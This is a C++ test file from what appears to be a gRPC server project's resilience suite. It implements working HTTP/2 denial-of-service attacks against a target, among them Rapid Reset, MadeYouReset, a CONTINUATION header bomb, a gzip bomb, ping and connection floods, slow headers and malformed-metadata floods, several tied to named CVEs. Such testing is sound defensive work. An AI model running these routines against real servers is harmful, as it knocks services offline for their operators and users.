#include "tests/testing/net/hostile_peer.h"

#include <zlib.h>

#include <algorithm>
#include <chrono>
#include <map>
#include <memory>
#include <thread>
#include <vector>

#include "tests/testing/net/client_call.h"
#include "tests/testing/net/http2_frames.h"

namespace eta::testing {
namespace {

using namespace http2;  // NOLINT(google-build-using-namespace)
using Peer = HostileConnection;
using Stop = std::atomic<bool>;

constexpr char kCalibrateMethod[] = "/eta.v1.EtaService/Calibrate";

void Pause(int milliseconds) {
  std::this_thread::sleep_for(std::chrono::milliseconds(milliseconds));
}

std::string Call(uint32_t stream, const std::string& more = "", uint8_t flags = kEndHeaders) {
  return Frame(kHeaders, flags, stream, CallHeaders(kGenerateMethod) + more);
}

// CVE-2023-44487: calls that are reset at once never count as concurrent.
void RapidReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 1'000'000;) {
      std::string bytes;
      for (int i = 0; i < 200; ++i, stream += 2) {
        bytes += Call(stream) + Frame(kResetStream, 0, stream, BigEndian(8));
      }
      peer.Send(bytes);
    }
  }
}

// CVE-2025-8671, MadeYouReset: calls that the other end resets itself, once it works on them,
// because their window overflows or they go on after their end.
void MadeYouReset(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  v1::GenerateRequest request;
  request.set_text("Once upon a time");
  request.mutable_stopping()->set_max_tokens(200);
  const std::string message = Message(request.SerializeAsString());
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 6000;) {
      std::string bytes;
      for (int i = 0; i < 100; ++i, stream += 2) {
        bytes += Call(stream) + Frame(kData, kEndStream, stream, message);
        bytes += i % 2 == 0 ? Frame(kWindowUpdate, 0, stream, BigEndian(0x7fffffff))
                            : Frame(kData, 0, stream, "x");
      }
      peer.Send(bytes);
      peer.Drain();
    }
  }
}

// Limits hold once they are acknowledged. This peer does not acknowledge them, opens calls and
// sends long headers.
void UnacknowledgedSettings(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  while (!stop) {
    Peer peer(target, tally);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 6000;) {
      std::string bytes;
      for (int i = 0; i < 100; ++i, stream += 2) bytes += Call(stream);
      peer.Send(bytes);
    }
    std::string headers = CallHeaders(kGenerateMethod) + Literal("long", std::string(1 << 20, 'x'));
    std::string bytes = Frame(kHeaders, 0, 6001, headers.substr(0, 16384));
    for (size_t at = 16384; at < headers.size(); at += 16384) {
      const bool last = at + 16384 >= headers.size();
      bytes += Frame(kContinuation, last ? kEndHeaders : 0, 6001, headers.substr(at, 16384));
    }
    peer.Send(bytes);
    for (int i = 0; i < 20 && !stop && peer.open(); ++i) {
      Pause(5);
      peer.Drain();
    }
  }
}

// CVE-2023-33953: a header that is declared as 1 GiB and comes in pieces, which gRPC 1.51 joins
// again with every piece. 7 MB a connection cost a second of a core.
void ContinuationBomb(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  const std::string piece = Frame(kContinuation, 0, 1, std::string(16384, 'x'));
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    std::string headers = CallHeaders(kGenerateMethod);
    headers.append(1, '\0').append(StringLength(4)).append("bomb").append(StringLength(1 << 30));
    peer.Send(Frame(kHeaders, 0, 1, headers));
    for (int i = 0; i < 448 && !stop && peer.open(); ++i) peer.Send(piece);
  }
}

// CVE-2023-32732: one bad value ends the connection, and with it the calls of others.
void BadMetadata(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  for (int i = 0; !stop; ++i) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    const std::string bad = i % 2 == 0 ? Literal("eta-bin", "*** no base64 ***")
                                       : Literal("long", std::string(12'000, 'x'));
    peer.Send(Call(1) + Call(3, bad) + Frame(kData, kEndStream, 1, Message("")));
    Pause(1);
    peer.Drain();
  }
}

// 300 MB of zeros, compressed to a few hundred kilobytes.
std::string Bomb() {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
  std::string zeros(1 << 20, '\0'), bomb(1 << 19, '\0');
  stream.next_out = reinterpret_cast<Bytef*>(bomb.data());
  stream.avail_out = static_cast<uInt>(bomb.size());
  for (int i = 0; i < 300; ++i) {
    stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
    stream.avail_in = static_cast<uInt>(zeros.size());
    deflate(&stream, i == 299 ? Z_FINISH : Z_NO_FLUSH);
  }
  bomb.resize(stream.total_out);
  deflateEnd(&stream);
  return bomb;
}

void GzipBomb(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  static const std::string bomb = Message(Bomb(), true);
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    for (uint32_t stream = 1; !stop && peer.open() && stream < 20; stream += 2) {
      std::string bytes = Call(stream, Literal("grpc-encoding", "gzip"));
      for (size_t at = 0; at < bomb.size(); at += 16384) {
        bytes += Frame(kData, at + 16384 >= bomb.size() ? kEndStream : 0, stream,
                       bomb.substr(at, 16384));
      }
      peer.Send(bytes);
      Pause(5);
    }
  }
}

void PingFlood(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  std::string bytes;
  for (int i = 0; i < 500; ++i) {
    bytes += Frame(kPing, 0, 0, "12345678");
    if (i % 10 == 0) bytes += Frame(kSettings, 0, 0, "");
  }
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    while (!stop && peer.Send(bytes)) {
    }
  }
}

// Many connections that send their headers a byte at a time.
void SlowHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  std::vector<std::unique_ptr<Peer>> peers;
  const std::string headers = Frame(kHeaders, kEndHeaders, 1, CallHeaders(kGenerateMethod));
  size_t at = 0;
  while (!stop) {
    if (peers.size() < 200) peers.push_back(std::make_unique<Peer>(target, tally));
    for (auto& peer : peers) {
      if (peer->open() && at < headers.size() - 1) peer->Send(headers.substr(at, 1));
      if (!peer->open()) peer = std::make_unique<Peer>(target, tally);
    }
    at = (at + 1) % headers.size();
    Pause(5);
  }
}

// Calls with shut windows whose answers are never read, and idle connections.
void HalfOpen(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  const std::string no_window = {0, 4, 0, 0, 0, 0};
  v1::GenerateRequest request;
  request.set_text("Once upon a time");
  request.mutable_stopping()->set_max_tokens(200);
  const std::string message = Message(request.SerializeAsString());
  std::vector<std::unique_ptr<Peer>> peers;
  while (!stop) {
    if (peers.size() < 100) {
      peers.push_back(std::make_unique<Peer>(target, tally, no_window));
      if (peers.size() % 25 == 0) {
        peers.back()->Send(Call(1) + Frame(kData, kEndStream, 1, message));
      }
    }
    for (auto& peer : peers) peer->Drain();
    Pause(5);
  }
}

// CVE-2019-9518 and related: frames that cost nothing to send.
void EmptyFrames(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    peer.Send(Call(1) + Frame(kHeaders, 0, 3, ""));
    std::string bytes;
    for (int i = 0; i < 1000; ++i) bytes += Frame(kContinuation, 0, 3, "");
    for (int i = 0; i < 100 && !stop && peer.Send(bytes); ++i) {
    }
    Peer other(target, tally);
    bytes = Call(1);
    for (int i = 0; i < 1000; ++i) {
      bytes += Frame(kData, 0, 1, "") + Frame(kPriority, 0, 3, BigEndian(0) + "\x10");
    }
    for (int i = 0; i < 100 && !stop && other.Send(bytes); ++i) {
    }
  }
}

// CVE-2023-1428 and related: headers that no client sends, and too much metadata.
void OddHeaders(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  const std::string filler = Literal("filler", std::string(9000, 'x'));
  const std::string odd[] = {Literal("te", "x") + filler,
                             Literal(":scheme", "gopher") + filler,
                             Literal("grpclb_client_stats", "x") + filler,
                             Literal("grpc-timeout", "99999999999H"),
                             Literal("grpc-timeout", "-1S"),
                             Literal(":status", "200"),
                             Literal("content-type", "text/plain"),
                             Literal("grpc-encoding", "no-such"),
                             Literal("content-length", "99999999999999999999"),
                             Literal("Upper-Case", "x"),
                             Literal("", "x"),
                             Literal("host", std::string("a\0b\r\nc", 6))};
  while (!stop) {
    for (const std::string& headers : odd) {
      Peer peer(target, tally);
      if (!peer.open()) Pause(1);
      peer.Send(Call(1, headers) + Frame(kData, kEndStream, 1, Message("")));
      // A window update out of bounds, a stream with an even number, a frame that is too long.
      peer.Send(Frame(kWindowUpdate, 0, 0, BigEndian(0x7fffffff)) + Call(2) +
                Frame(kData, 0, 1, std::string(20'000, 'x')));
      Pause(1);
      peer.Drain();
      if (stop) return;
    }
  }
}

// A message that stops a kilobyte before its end.
struct HalfSent {
  size_t size;  // bytes that are sent, with the prefix
  size_t sent = 0;
  bool refused = false;
};

// As many unfinished calls as are let in, of the method with the largest messages, then of the
// other one. Their messages go on by one byte a second.
void HalfSentMessages(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  constexpr size_t kPiece = 16384;
  constexpr std::chrono::milliseconds kDrip{1000};
  const std::string filler(kPiece, 'x');
  while (!stop) {
    Peer peer(target, tally);
    if (!peer.open()) Pause(1);
    std::map<uint32_t, HalfSent> messages;
    peer.on_frame = [&messages](const FrameView& frame) {
      const bool ends =
          frame.type == kResetStream || (frame.type == kHeaders && (frame.flags & kEndStream) != 0);
      const auto message = messages.find(frame.stream);
      if (ends && message != messages.end()) message->second.refused = true;
    };
    uint32_t stream = 1;
    const auto begin = [&](const char* method, uint32_t size) {
      messages[stream] = {.size = size - 1024, .sent = 5};
      peer.Send(Frame(kHeaders, kEndHeaders, stream, CallHeaders(method)) +
                Frame(kData, 0, stream, '\0' + BigEndian(size)));
      stream += 2;
    };
    for (int i = 0; i < 100; ++i) begin(kCalibrateMethod, 8 << 20);
    auto next_drip = std::chrono::steady_clock::now() + kDrip;
    while (!stop && peer.open()) {
      const size_t refused =
          std::erase_if(messages, [](const auto& m) { return m.second.refused; });
      for (size_t i = 0; i < refused; ++i) begin(kGenerateMethod, 1 << 20);
      const bool drip = std::chrono::steady_clock::now() >= next_drip;
      if (drip) next_drip += kDrip;
      bool moved = false;
      for (auto& [id, message] : messages) {
        if (drip && message.sent == message.size) ++message.size;
        const auto room = static_cast<size_t>(std::max<int64_t>(0, peer.Room(id)));
        const size_t bytes = std::min({room, kPiece, message.size - message.sent});
        if (bytes == 0) continue;
        peer.Send(Frame(kData, 0, id, filler.substr(0, bytes)));
        message.sent += bytes;
        moved = true;
      }
      if (!moved) Pause(5);
      peer.Drain();
    }
  }
}

void ConnectionFlood(const HostileTarget& target, const Stop& stop, AttackTally& tally) {
  while (!stop) {
    const Peer peer(target, tally);
    if (!peer.open()) Pause(1);
  }
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const std::vector<Attack> attacks = {
      {.name = "rapid_reset", .min_frames = 20'000, .thrown_out = true, .run = RapidReset},
      {.name = "made_you_reset", .min_frames = 1'000, .thrown_out = true, .run = MadeYouReset},
      {.name = "unacknowledged_settings",
       .min_frames = 5'000,
       .thrown_out = true,
       .run = UnacknowledgedSettings},
      {.name = "continuation_bomb", .min_frames = 500, .thrown_out = true, .run = ContinuationBomb},
      {.name = "bad_metadata", .min_connections = 20, .min_frames = 60, .run = BadMetadata},
      {.name = "gzip_bomb", .min_frames = 20, .run = GzipBomb},
      {.name = "ping_flood", .min_frames = 100'000, .thrown_out = true, .run = PingFlood},
      {.name = "slow_headers", .min_connections = 20, .run = SlowHeaders},
      {.name = "half_open", .min_connections = 20, .run = HalfOpen},
      {.name = "empty_frames", .min_frames = 100'000, .thrown_out = true, .run = EmptyFrames},
      {.name = "odd_headers", .min_connections = 20, .min_frames = 60, .run = OddHeaders},
      {.name = "connection_flood", .min_connections = 20, .run = ConnectionFlood},
      {.name = "half_sent_messages", .min_frames = 1'000, .run = HalfSentMessages},
  };
  return attacks;
}

}  // namespace eta::testing
